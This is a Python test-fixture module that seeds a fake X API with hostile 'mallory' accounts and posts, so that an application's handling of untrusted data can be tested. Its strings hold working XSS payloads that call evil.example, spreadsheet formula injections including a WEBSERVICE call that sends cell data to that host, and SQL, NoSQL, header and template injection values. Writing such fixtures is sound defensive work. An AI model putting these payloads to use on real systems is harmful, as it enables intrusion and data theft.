"""People who mean harm, and what they post: `invade` lets them in.

Whatever of it runs asks for RAN; whatever loads from where X keeps no pictures, or
links there, names EVIL. `told_instead` of the state makes X itself say what it never
would: offsets that are wrong, counts below nothing, texts that no database takes.
"""

from .person import Person
from .post import Media, Post
from .state import State

__all__ = ["EVIL", "NAMES", "RAN", "flood", "invade"]

EVIL = "evil.example"
# In pieces, or X would make a link of it.
RAN = "window.ran=(window.ran||0)+1;fetch('//ran.evil'+'.'+'example')"
_TAGS = (
    f"<script>{RAN}</script>",
    f'"><img src="https://seen.{EVIL}/a.png" onerror="{RAN}">',
    f'<svg onload="{RAN}"><iframe srcdoc="<script>{RAN}</script>"></iframe></svg>',
    f'</span></textarea><a href="javascript:{RAN}">click</a>',
    "<t t-out=\"1\"/><t t-esc='env'/>{{ object.env }} ${object} %(name)s %s %",
    "&lt;script&gt;&#x3c;script&#62;",
)
_HTML = " ".join(_TAGS)
_TURNED = "\u202e\u2066moc.knab//:sptth\u2067\u202d"
_UNSTORED = "a\0b\x01\x0b\x1b\ud800c\udfff\uffff"
_UNSEEN = "\u200b\u2060\ufeff\u3164"
_LINK = {"url": f"javascript:{RAN}", "expanded_url": f"javascript:{RAN}"}
_DATA = f"data:text/html,<script>{RAN}</script>"
_CALL = f'=WEBSERVICE("https://{EVIL}/?"&A1)'
_AWAY = f"https://seen.{EVIL}/profile_images/1/a_normal.png"


def _nested(depth: int) -> object:
    value: object = "deep"
    for _level in range(depth):
        value = {"urls": [value]}
    return value


def _entities(**values: object) -> dict:
    """Of each kind of entity, one with these values."""
    kinds = ("urls", "mentions", "hashtags", "cashtags")
    return {kind: [{"start": 0, "end": 5, **values}] for kind in kinds}


# By username: what a Person has, and what X says of them instead of what it would.
_PEOPLE: dict[str, tuple[dict, dict]] = {
    "mallory_script": (
        {"name": f"Mallory {_TAGS[0]}", "description": _HTML, "location": _HTML},
        {},
    ),
    "mallory_handler": (
        {"name": f"Mallory {_TAGS[1]}", "description": _TAGS[3], "location": _TAGS[2]},
        {},
    ),
    "mallory_link": (
        {"name": "Mallory javascript:alert(1)", "description": f"javascript:{RAN}"},
        {
            "entities": {
                "url": {"urls": [{**_LINK, "display_url": "bank.com"}]},
                "description": {"urls": [{**_LINK, "display_url": "bank.com"}]},
            },
            "url": f"javascript:{RAN}",
            "profile_image_url": f"javascript:{RAN}",
        },
    ),
    "mallory_picture": (
        {"name": "Mallory Picture", "description": _AWAY},
        {"profile_image_url": _AWAY},
    ),
    "mallory_data": (
        {"name": f"Mallory {_DATA}", "description": _DATA, "url": _DATA},
        {"profile_image_url": f"data:image/svg+xml,<svg onload={RAN}>"},
    ),
    "mallory_turns": (
        {"name": f"Mallory {_TURNED}", "description": _TURNED, "location": _TURNED},
        {},
    ),
    "mallory_unseen": (
        {"name": f"Mallory{_UNSEEN}", "description": _UNSEEN},
        {"name": _UNSEEN, "location": _UNSEEN},
    ),
    "mallory_null": (
        {"name": "Mallory Null"},
        {"name": f"Mallory {_UNSTORED}", "description": _UNSTORED * 9},
    ),
    "mallory_lines": (
        {
            "name": "Mallory\r\nBcc: all@evil.example\r\n\r\nHi",
            "description": "\n" * 99,
        },
        {"location": "\r\n\u2028\u2029\t"},
    ),
    "mallory_long": (
        {"name": "Mallory Long", "description": "long"},
        {
            "name": "Mallory " + "m" * 20_000,
            "description": "Z\u0335" * 60_000,
            "location": "\U0001f600" * 9_000,
        },
    ),
    "mallory_counts": (
        {"name": "Mallory Counts", "description": "#a @b"},
        {
            "public_metrics": {
                "followers_count": -1,
                "following_count": 10**300,
                "tweet_count": 2**63,
                "listed_count": "many",
            },
            "created_at": "0001-01-01T00:00:00.000Z",
            "protected": "yes",
            "verified_type": ["blue"],
        },
    ),
    "mallory_offsets": (
        {"name": "Mallory Offsets", "description": f"{_TAGS[0]} @ourcompany"},
        {
            "entities": {
                "description": _entities(
                    start=-5, end=10**30, username="../x", tag='"><b>', **_LINK
                )
            }
        },
    ),
    "mallory_deep": (
        {"name": "Mallory Deep", "description": "deep"},
        {"entities": _nested(150), "public_metrics": _nested(150)},
    ),
    "mallory_formula": (
        {"name": "=cmd|' /C calc'!A0 Mallory", "location": "@SUM(1+1)*cmd|' /C'!A0"},
        {"description": f'=HYPERLINK("https://{EVIL}","Mallory")'},
    ),
    "mallory_array": (
        {"name": "{=cmd|' /C calc'!A0+Mallory}"},
        {
            "location": f"external:\\\\{EVIL}\\share\\Mallory.xlsx",
            "description": f'\t=HYPERLINK("https://{EVIL}","Mallory")',
        },
    ),
    "mallory_group": (
        {"name": f'=WEBSERVICE("https://{EVIL}/?"&B3)&Mallory'},
        {"location": "mailto:Mallory@x", "description": f"\n {_CALL}"},
    ),
    "mallory_wide": (
        {"name": f"\uff1d{_CALL[1:]} Mallory"},
        {"location": "internal:Sheet1!A1", "description": f"  -1{_CALL}"},
    ),
}
NAMES = tuple(_PEOPLE)
# What each post says instead, by turns.
_POSTS: tuple[dict, ...] = (
    {},
    {"entities": _entities(start=0, end=8, **_LINK)},
    {"text": f"@ourcompany {_UNSTORED}", "created_at": "9999-12-31T23:59:59.000Z"},
    {
        "public_metrics": {"like_count": -7, "retweet_count": 10**99},
        "lang": "<b>",
        "edit_history_tweet_ids": [-1, "<b>", "9" * 99, None],
    },
    {
        "note_tweet": {
            "text": "@ourcompany " + "#a " * 30_000,
            "entities": _entities(),
        },
        "conversation_id": "1 OR 1=1",
        "in_reply_to_user_id": {"$ne": 1},
    },
)


def invade(state: State) -> list[Post]:
    """Let them in. Each speaks to @ourcompany, and follows it; what they said."""
    company, said = state.people.named("ourcompany"), []
    for number, (username, (values, told)) in enumerate(_PEOPLE.items()):
        person = state.people.add(username, **values)
        person.follows.add(company.id)
        company.follows.add(person.id)
        state.told_instead[person.id] = told
        post = _post(state, person, values.get("description", ""))
        state.told_instead[post.id] = _POSTS[number % len(_POSTS)]
        said.append(post)
    return said


def flood(state: State, size: int = 10_000_000) -> Person:
    """Somebody whose bio is as large as no answer of X is."""
    person = state.people.add("mallory_flood", "Mallory Flood")
    state.told_instead[person.id] = {"description": "m" * size}
    return person


def _post(state: State, person: Person, words: str) -> Post:
    """What they say, with a picture whose address is not X's."""
    picture = Media(f"3_{state.ids.make(state.clock.now())}", alt=_TAGS[1])
    state.told_instead[picture.key] = {"url": _AWAY}
    text = f"@ourcompany {words[:500]} {_TAGS[0]} https://{EVIL}/{person.username}"
    return state.posts.add(person.username, text, media=[picture])
